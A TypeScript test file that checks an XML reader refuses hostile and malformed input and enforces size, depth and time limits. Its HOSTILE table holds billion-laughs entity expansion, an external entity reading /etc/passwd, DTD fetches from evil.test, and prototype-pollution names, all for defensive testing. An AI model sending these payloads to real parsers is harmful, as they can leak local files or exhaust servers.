import { describe, expect, it } from 'vitest';

import { elementOf } from '../testing/element-of.ts';
import { ShapeError } from './shape-error.ts';
import { child, need, rowsOf } from './xml-element.ts';
import { XML_LIMITS } from './xml-limits.ts';
import { openXmlReader } from './xml-reader.ts';

const billionLaughs = `<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;">]><Response>&lol2;</Response>`;

const HOSTILE: Record<string, string> = {
  'entities that grow': billionLaughs,
  'an external entity':
    '<!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><Response><Status>&x;</Status></Response>',
  'a document type never closed': `<!DOCTYPE r [${'<!ENTITY a "b">'.repeat(9)}`,
  'a document type after a comment': '<!-- <a --><!DOCTYPE r><r/>',
  'an HTML page': '<!doctype html><html><body><p>Down</body></html>',
  'an unclosed HTML page': '<html><head><title>Down</title></head><body><br></body></html>',
  'nothing at all': '',
  'white space': ' \n ',
  'plain text': 'Service unavailable',
  'a JSON problem': '{"Title":"Unauthorized","Status":401}',
  'an undefined entity': '<a>&nbsp;</a>',
  'an entity named after an object property': '<a>&toString;</a>',
  'an entity named __proto__': '<a>&__proto__;</a>',
  'a reference to NUL': '<a>&#0;</a>',
  'a reference to a surrogate': '<a>&#xD800;</a>',
  'a reference beyond Unicode': '<a>&#x110000;</a>',
  'a raw control character': '<a>\u0001</a>',
  'a raw U+FFFF': '<a>\uFFFF</a>',
  'two roots': '<a></a><b></b>',
  'text after the root': '<a></a>b',
  'crossed tags': '<a><b></a></b>',
  'a missing end tag': '<a><b></b>',
  'an attribute given twice': '<a b="1" b="2"></a>',
  'an attribute without quotes': '<a b=1></a>',
  'a raw ampersand': '<a>Tom & Jerry</a>',
  'a parameter entity': '<!DOCTYPE r [<!ENTITY % p SYSTEM "http://evil.test/x.dtd">%p;]><r></r>',
  'one large entity used often': `<!DOCTYPE r [<!ENTITY a "${'a'.repeat(999)}">]><r>${'&a;'.repeat(999)}</r>`,
  'a public document type': '<!DOCTYPE r PUBLIC "-//W3C//DTD X//EN" "http://evil.test/x.dtd"><r></r>',
  'a document type in lower case': '<!doctype r><r></r>',
  'a document type after the root': '<r></r><!DOCTYPE r>',
  'a document type inside the root': '<r><!DOCTYPE r></r>',
  'a declaration after a blank': ' <?xml version="1.0"?><a></a>',
  'a declaration inside the root': '<a><?xml version="1.0"?></a>',
  'the end of a CDATA section in text': '<a>]]></a>',
  'a CDATA section without an end': '<a><![CDATA[x</a>',
  'a CDATA section outside the root': '<a></a><![CDATA[x]]>',
  'two dashes in a comment': '<a><!-- x -- y --></a>',
  'a less-than sign in an attribute': '<a b="<"></a>',
  'a reference without its semicolon': '<a>&amp</a>',
  'a reference to no number': '<a>&#;</a>',
  'a reference with a capital X': '<a>&#X41;</a>',
  'a predefined entity in capitals': '<a>&AMP;</a>',
  'a reference to U+FFFE': '<a>&#xFFFE;</a>',
  'a reference in a name': '<a&amp;></a&amp;>',
  'a name that starts with a digit': '<1a></1a>',
  'a blank before a name': '< a></a>',
  'an end tag with an attribute': '<a></a b="1">',
  'a start tag inside a tag': '<a <b></b></a>',
  'another case in the end tag': '<Response></response>',
  'a byte order mark in the middle of the prolog': '\uFEFF\uFEFF<a></a>',
  'UTF-16 read as something else': '<\u0000a\u0000>\u0000',
  'a declared encoding it was not sent in': '<?xml version="1.0" encoding="ISO-8859-1"?><a></a>',
};

describe('the XML reader', () => {
  it.each(Object.entries(HOSTILE))('refuses %s', (_what, xml) => {
    expect(() => elementOf(xml)).toThrow(ShapeError);
  });

  it.each(Object.entries(HOSTILE))('refuses %s one character at a time', (_what, xml) => {
    const reader = openXmlReader();
    expect(() => {
      for (const character of xml) reader.write(character);
      reader.end();
    }).toThrow(ShapeError);
  });

  it('refuses a document type before reading what it declares', () => {
    const reader = openXmlReader();
    expect(() => reader.write('<!DOCTYPE r [ <!ENTITY')).toThrow('document type');
  });

  it.each([
    ['007', '<a>007</a>'],
    [' J1 ', '<a> J1 </a>'],
    ['trailing  ', '<a>trailing  </a>'],
    ['one\ntwo', '<a>one\r\ntwo</a>'],
    ['one\r\ntwo', '<a>one&#13;\ntwo</a>'],
    ['<&>"\'', '<a>&lt;&amp;&gt;&quot;&apos;</a>'],
    ['½ – 😀', '<a>½ – &#x1F600;</a>'],
    ['<b>&amp;', '<a><![CDATA[<b>&amp;]]></a>'],
    ['ab', '<a>a<!-- & not this -->b</a>'],
    ['', '<a/>'],
    ['', '<a></a>'],
  ])('reads %j verbatim', (text, xml) => expect(elementOf(xml).text).toBe(text));

  it('accepts a declaration of the encoding it was sent in', () => {
    expect(elementOf('<?xml version="1.0" encoding="UTF-8"?>\r\n<a>x</a>\r\n').text).toBe('x');
  });

  it('keeps a list of one a list, and an absent list apart from an empty one', () => {
    const root = elementOf('<r><One><x>1</x></One><Empty /></r>');
    expect(rowsOf(root, 'One', 'x')?.map(({ text }) => text)).toEqual(['1']);
    expect(rowsOf(root, 'Empty', 'x')).toEqual([]);
    expect(rowsOf(root, 'Absent', 'x')).toBeNull();
  });

  it('believes neither of two elements of one name', () => {
    const root = elementOf('<r><a>1</a><a>2</a></r>');
    expect(() => child(root, 'a')).toThrow(ShapeError);
    expect(() => need(root, 'b')).toThrow(ShapeError);
  });

  it('keeps names like __proto__ plain names', () => {
    const root = elementOf(
      '<r><__proto__ constructor="c" __proto__="p"><polluted>yes</polluted></__proto__></r>',
    );
    const odd = need(root, '__proto__');
    expect(odd.attributes.get('__proto__')).toBe('p');
    expect(odd.attributes.get('constructor')).toBe('c');
    expect(Reflect.get({}, 'polluted')).toBeUndefined();
    expect(child(root, 'toString')).toBeNull();
  });

  it('hands each row out once it is complete and keeps only the rest', () => {
    const reader = openXmlReader({ rows: { container: 'Jobs', row: 'Job' } });
    expect(reader.write('<Response><Status>OK</Status><Jobs><Job><ID>1</ID></Job><Job>')).toHaveLength(1);
    expect(reader.write('<Jobs><Job>inner</Job></Jobs></Job>')).toMatchObject([
      { children: [{ name: 'Jobs' }] },
    ]);
    expect(reader.write('<Other/></Jobs><More><Job/></More></Response>')).toEqual([]);
    const root = reader.end();
    expect(need(root, 'Jobs').children.map(({ name }) => name)).toEqual(['Other']);
    expect(need(root, 'More').children).toHaveLength(1);
  });
});

describe('the limits of one reply', () => {
  const withLimits = (limits: Partial<typeof XML_LIMITS>, xml: string) => (): void => {
    const reader = openXmlReader({
      limits: { ...XML_LIMITS, ...limits },
      rows: { container: 'l', row: 'r' },
    });
    reader.write(xml);
    reader.end();
  };

  it('reads 64 levels and refuses the 65th', () => {
    const nested = (levels: number): string => '<a>'.repeat(levels) + '</a>'.repeat(levels);
    expect(withLimits({}, nested(64))).not.toThrow();
    expect(withLimits({}, nested(65))).toThrow(ShapeError);
    expect(withLimits({}, '<a>'.repeat(1_000_000))).toThrow('deeply');
  });

  it('counts the elements of all rows together', () => {
    const list = `<x><l>${'<r/>'.repeat(98)}</l></x>`;
    expect(withLimits({ elementsMax: 100 }, list)).not.toThrow();
    expect(withLimits({ elementsMax: 99 }, list)).toThrow(ShapeError);
  });

  it('bounds what is held of one record, however many rows there are', () => {
    const row = `<r>${'<a/>'.repeat(10)}</r>`;
    expect(withLimits({ heldElementsMax: 20 }, `<x><l>${row.repeat(50)}</l></x>`)).not.toThrow();
    expect(withLimits({ heldElementsMax: 12 }, `<x><l>${row}</l></x>`)).toThrow(ShapeError);
  });

  it('bounds the text held of one record, however many rows there are', () => {
    const row = '<r><a>12345</a><a>67890</a></r>';
    expect(withLimits({ heldTextMax: 10 }, `<x><l>${row.repeat(50)}</l></x>`)).not.toThrow();
    expect(withLimits({ heldTextMax: 9 }, `<x><l>${row}</l></x>`)).toThrow(ShapeError);
  });

  it('bounds the text of one element, also in many pieces', () => {
    expect(withLimits({ textMax: 10 }, '<a>0123456789</a>')).not.toThrow();
    expect(withLimits({ textMax: 10 }, '<a>01234<b/>56789x</a>')).toThrow(ShapeError);
    expect(withLimits({ textMax: 10 }, '<a>01234<![CDATA[56789x]]></a>')).toThrow(ShapeError);
  });

  it.each([
    ['an attribute', `<a b="${'x'.repeat(2_000_000)}`],
    ['a name', `<${'x'.repeat(2_000_000)}`],
    ['a comment', `<a><!--${'x'.repeat(2_000_000)}`],
    ['an entity', `<a>&${'x'.repeat(2_000_000)}`],
    ['a text', `<a>${'x'.repeat(2_000_000)}`],
  ])('gives up on %s without an end', (_what, xml) => {
    expect(() => openXmlReader().write(xml)).toThrow(ShapeError);
  });

  it('gives up when reading takes too long', () => {
    expect(withLimits({ parseMsMax: -1 }, '<a></a>')).toThrow('too long to read');
  });
});
